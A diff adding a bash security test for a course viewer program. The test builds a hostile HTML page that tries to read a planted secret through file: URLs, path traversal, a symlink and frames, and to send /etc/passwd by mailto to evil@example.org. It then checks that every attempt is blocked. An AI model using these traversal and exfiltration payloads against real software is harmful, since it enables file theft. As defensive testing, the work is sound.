@@ -1,0 +1,162 @@
+#!/usr/bin/env bash
+# Drives the real program on a demo course made hostile: its results page
+# (with its name in other letter case) tries to read a secret planted beside
+# the course, through XMLHttpRequest, fetch, a frame and a picture at file:
+# addresses, by climbing out of the course folder and through a link leading
+# out of it; a web page it frames tries the same and the course's own files;
+# a press on it opens windows and goes to a mail address with a file attached
+# from its mousedown handlers. Its own files, in any letter case, must still
+# show and read. Each try reports itself as a request to a local server, which
+# also stands in for the web; a recording xdg-open stands in for the desktop's
+# opener; nothing leaves the machine.
+# Checks the reports, the addresses opened and the screen.
+# Usage: run-hostile-course.sh TOVRELLE_BINARY SOURCE_DIR WORK_DIR
+set -euo pipefail
+binary=$1 source=$2 work=$3
+
+fail() { echo "FAIL: $*" >&2; exit 1; }
+
+source "$source/scripts/demo-session.sh"
+rm -rf "$work" && mkdir -p "$work/bin"
+prepare_demo_course "$binary" "$source" "$work/course"
+course=$work/course
+
+# The secret lies beside the course; a link inside the course leads to it.
+echo "SECRET-TOKEN" >"$work/secret.txt"
+convert -size 8x8 xc:red "$work/secret.png"
+ln -s "$work/secret.txt" "$course/Media/leak.txt"
+
+# The results page, under a name in other letter case than the program asks for.
+rm "$course/Media/frel_mabr.htm"
+cat >"$course/Media/Frel_Mabr.HTM" <<PAGE
+<html><body style="margin:0;background:#1d054f;color:#fff;font:14px sans-serif">
+<p>Hostile course page</p>
+<img id="picture" src="MAIN_BK.JPG" style="position:absolute;left:400px;top:60px;width:200px;height:100px">
+<iframe id="own" src="../sponsors/INDEX.HTM" style="position:absolute;left:400px;top:180px;width:300px;height:100px"></iframe>
+<iframe id="outside" src="file://$work/secret.txt" style="width:10px;height:10px"></iframe>
+<iframe src="http://remote.test/remote-hostile?secret=$work/secret.txt" style="width:10px;height:10px"></iframe>
+<div id="trap" style="position:absolute;left:0;top:300px;width:300px;height:60px;background:#404040">Press</div>
+<a id="window" target="_blank" href="http://www.tovrelle.com/clicked-link"
+   style="position:absolute;left:0;top:380px;width:300px;height:60px;background:#204010">Window</a>
+<a id="mail" href="mailto:learner@example.com?subject=Hi&amp;attach=$work/secret.txt"
+   style="position:absolute;left:0;top:460px;width:300px;height:60px;background:#402010">Mail</a>
+<script>
+const report = (name, result) => { new Image().src = 'http://report.test/' + name + '=' + result; };
+function readable(name, address, expected) {
+  const request = new XMLHttpRequest();
+  request.onload = () => report(name, request.status === 200 && request.responseText.includes(expected) ? 'read' : 'blocked');
+  request.onerror = () => report(name, 'blocked');
+  try { request.open('GET', address); request.send(); } catch (e) { report(name, 'blocked'); }
+}
+function shown(name, address) {
+  const picture = new Image();
+  picture.onload = () => report(name, 'shown');
+  picture.onerror = () => report(name, 'blocked');
+  picture.src = address;
+}
+readable('xhr-file', 'file://$work/secret.txt', 'SECRET');
+readable('xhr-climb', '../../secret.txt', 'SECRET');
+readable('xhr-escaped', 'tovrelle://course/Media/%2e%2e/%2e%2e/secret.txt', 'SECRET');
+readable('xhr-absolute', 'tovrelle://course/$work/secret.txt', 'SECRET');
+readable('xhr-link', 'leak.txt', 'SECRET');
+readable('xhr-own', '../SPONSORS/SP.DAT', 'num');
+fetch('file://$work/secret.txt').then(() => report('fetch-file', 'read'), () => report('fetch-file', 'blocked'));
+shown('img-file', 'file://$work/secret.png');
+shown('img-own', 'Main_Bk.Jpg');
+setTimeout(() => {
+  const framed = document.getElementById('outside').contentDocument;
+  report('frame-file', framed && !framed.body.innerText.includes('SECRET') ? 'blocked' : 'opaque');
+  const own = document.getElementById('own').contentDocument;
+  report('frame-own', own && own.body.innerText.includes('sponsors') ? 'read' : 'failed');
+}, 3000);
+document.getElementById('trap').addEventListener('mousedown', () => {
+  window.open('http://popup.test/by-mousedown');
+  location.href = 'mailto:evil@example.org?attach=/etc/passwd';
+});
+document.getElementById('window').addEventListener('mousedown', () => window.open('http://popup.test/beside-link'));
+document.getElementById('mail').addEventListener('mousedown', () => window.open('mailto:evil@example.org'));
+</script></body></html>
+PAGE
+start_xvfb
+
+python3 "$source/tests/e2e/search-server.py" "$work/requests.log" "$work/port" &
+server=$!
+trap 'kill $server $XVFB_PID 2>/dev/null || true' EXIT
+for _ in $(seq 1 50); do [ -s "$work/port" ] && break; sleep 0.1; done
+port=$(cat "$work/port") || fail "the local server did not start"
+touch "$work/requests.log" "$work/opened.log"
+
+cat >"$work/bin/xdg-open" <<OPENER
+#!/bin/sh
+printf '%s\n' "\$*" >>"$work/opened.log"
+OPENER
+chmod +x "$work/bin/xdg-open"
+
+(cd "$course" && exec env -u BROWSER -u DEFAULT_BROWSER -u http_proxy -u https_proxy -u HTTP_PROXY \
+  -u HTTPS_PROXY -u all_proxy -u ALL_PROXY -u no_proxy PATH="$work/bin:$PATH" \
+  QTWEBENGINE_CHROMIUM_FLAGS="--proxy-server=http://127.0.0.1:$port" ./tovrelle) \
+  >"$work/program.log" 2>&1 &
+app=$!
+started=$SECONDS
+trap 'kill $app $server $XVFB_PID 2>/dev/null || true' EXIT
+
+window_place || fail "no window captioned Tovrelle"
+sleep 2
+
+# Places are given in the window's main panel, which lies at -5, -5 in the
+# window; the results view lies at 254, 141 in it.
+click() { xdotool mousemove $((left + $1 - 5)) $((top + $2 - 5)) click 1; sleep 0.6; }
+page_click() { click $((254 + $1)) $((141 + $2)); }
+shot() { import -window root "$work/$1.png"; }
+screen_pixel() { pixel "$work/$1.png" $((left + $2 - 5)) $((top + $3 - 5)); }
+reports() { grep -o 'report.test/[^ ]*' "$work/requests.log" | sed 's|report.test/||' | sort; }
+
+# The resources tab shows the results page: the engine starts now.
+click 146 91
+for _ in $(seq 1 60); do [ "$(reports | wc -l)" -ge 16 ] && break; sleep 0.5; done
+shot resources
+
+page_click 150 330   # the mousedown trap
+page_click 150 410   # the link meant for a new window, with a window of its own on mousedown
+page_click 150 490   # the mail link with a file attached, with a window of its own on mousedown
+sleep 2
+shot pressed
+kill -0 "$app" 2>/dev/null || fail "the program ended by itself"
+
+expected_reports="fetch-file=blocked
+frame-file=blocked
+frame-own=read
+img-file=blocked
+img-own=shown
+remote-fetch-file=blocked
+remote-img-course=blocked
+remote-img-file=blocked
+remote-xhr-course=blocked
+remote-xhr-file=blocked
+xhr-absolute=blocked
+xhr-climb=blocked
+xhr-escaped=blocked
+xhr-file=blocked
+xhr-link=blocked
+xhr-own=read"
+[ "$(reports)" = "$expected_reports" ] || fail "reports:
+$(reports)
+expected:
+$expected_reports"
+grep -q SECRET "$work/requests.log" && fail "the secret reached the server"
+
+expected_opened="http://www.tovrelle.com/clicked-link
+mailto:learner@example.com?subject=Hi"
+[ "$(cat "$work/opened.log")" = "$expected_opened" ] || fail "addresses opened:
+$(cat "$work/opened.log")
+expected:
+$expected_opened"
+
+# The course's own picture shows in the page, under a name in other letter case.
+own_picture=$(convert "$course/Media/main_bk.jpg" -resize '200x100!' -crop 1x1+100+50 \
+  -format '%[fx:int(255*r+0.5)] %[fx:int(255*g+0.5)] %[fx:int(255*b+0.5)]' info:)
+close_to "$(screen_pixel resources $((254 + 500)) $((141 + 110)))" "$own_picture" 40 \
+  || fail "the course's picture does not show: $(screen_pixel resources $((254 + 500)) $((141 + 110)))"
+close_to "$(screen_pixel resources $((254 + 150)) $((141 + 20)))" "29 5 79" \
+  || fail "the results page does not show: $(screen_pixel resources $((254 + 150)) $((141 + 20)))"
+echo "$(reports | wc -l) tries reported as expected, 2 clicked links opened and nothing else, in $((SECONDS - started)) s; screenshots in $work"
